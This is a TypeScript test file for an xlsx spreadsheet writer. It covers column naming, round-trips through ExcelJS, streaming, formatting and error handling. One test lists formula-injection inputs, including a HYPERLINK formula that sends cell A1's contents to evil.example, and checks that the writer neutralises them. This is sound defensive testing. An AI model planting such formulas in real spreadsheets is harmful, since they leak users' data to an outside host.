import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { columnLetters, neutraliseFormula, xlsxBuffer, xlsxStream } from './xlsx.js';

describe('xlsx writer', () => {
  it('names columns as Excel does', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });

  it('writes sheets ExcelJS reads back: headings, text with markup and control characters, numbers, empty cells', async () => {
    const data = await xlsxBuffer([
      { name: 'Liste: a/b', columns: [{ header: 'Code', width: 10 }, { header: 'Name' }, { header: 'n' }], rows: [[['A<1>', ' "x" & y\u0001 ', 3.5], ['刹车', null, 0]]] },
      { name: 'help', header: false, columns: [{ header: '' }, { header: '' }], rows: [[['role', 'what it does']]] },
    ]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data as unknown as ArrayBuffer);
    const [list, help] = book.worksheets;
    expect(list.name).toBe('Liste  a b');
    expect(list.getRow(1).values).toEqual([undefined, 'Code', 'Name', 'n']);
    expect(list.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(list.getRow(2).values).toEqual([undefined, 'A<1>', ' "x" & y ', 3.5]);
    expect(list.getRow(3).values).toEqual([undefined, '刹车', undefined, 0]);
    expect(list.rowCount).toBe(3);
    expect(list.getColumn(1).width).toBe(10);
    expect(help.getRow(1).values).toEqual([undefined, 'role', 'what it does']);
  });

  it('streams many batches in order, readable by the streaming reader', async () => {
    async function* rows() {
      for (let b = 0; b < 20; b++) yield Array.from({ length: 1000 }, (_, i) => [`row ${b * 1000 + i}`, b * 1000 + i]);
    }
    const chunks: Buffer[] = [];
    for await (const c of xlsxStream([{ name: 'big', columns: [{ header: 'label' }, { header: 'n' }], rows: rows() }])) chunks.push(c as Buffer);
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([Buffer.concat(chunks)]), { worksheets: 'emit', sharedStrings: 'ignore', styles: 'ignore', hyperlinks: 'ignore' });
    let seen = 0;
    let last: unknown[] = [];
    for await (const sheet of reader) for await (const row of sheet) { seen++; last = row.values as unknown[]; }
    expect(seen).toBe(20_001);
    expect(last).toEqual([undefined, 'row 19999', 19999]);
  });

  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), in every cell; numbers stay numbers', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1+2', '-2', '@SUM(A1:A9)', '\t=1', '\r=1'];
    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((s) => `'${s}`));
    expect(['a=b', ' =1', '', '1-2', '\'already quoted', '＝1'].map(neutraliseFormula)).toEqual(['a=b', ' =1', '', '1-2', '\'already quoted', '＝1']);
    const data = await xlsxBuffer([{ name: 's', columns: [{ header: '=title' }, { header: 'n' }, { header: 'm' }], rows: [[[hostile[0], -5, '-5'], ['@x', -0.5, 'ok']]] }]);
    const sheet = (await new ExcelJS.Workbook().xlsx.load(data as unknown as ArrayBuffer)).worksheets[0];
    expect(sheet.getRow(1).values).toEqual([undefined, "'=title", 'n', 'm']);
    expect(sheet.getRow(2).values).toEqual([undefined, `'${hostile[0]}`, -5, "'-5"]);
    expect(sheet.getRow(3).values).toEqual([undefined, "'@x", -0.5, 'ok']);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
  });

  it('formats a column\'s numbers and adds the header\'s filter when asked', async () => {
    const data = await xlsxBuffer([{ name: 's', autoFilter: true, columns: [{ header: 'job' }, { header: 'hours', numberFormat: '0.00' }], rows: [[['brakes', 0.3], ['tyres', 1]]] }]);
    const sheet = (await new ExcelJS.Workbook().xlsx.load(data as unknown as ArrayBuffer)).worksheets[0];
    expect(sheet.getCell('B2').numFmt).toBe('0.00');
    expect(sheet.getCell('B2').value).toBe(0.3);
    expect(sheet.getCell('A2').numFmt).toBeUndefined();
    expect(sheet.autoFilter).toBe('A1:B1');
  });

  it('fails the stream when a row source fails', async () => {
    async function* rows(): AsyncGenerator<string[][]> {
      yield [['a']];
      throw new Error('database gone');
    }
    const read = async () => { for await (const _ of xlsxStream([{ name: 's', columns: [{ header: 'h' }], rows: rows() }])) { /* drain */ } };
    await expect(read()).rejects.toThrow('database gone');
  });
});
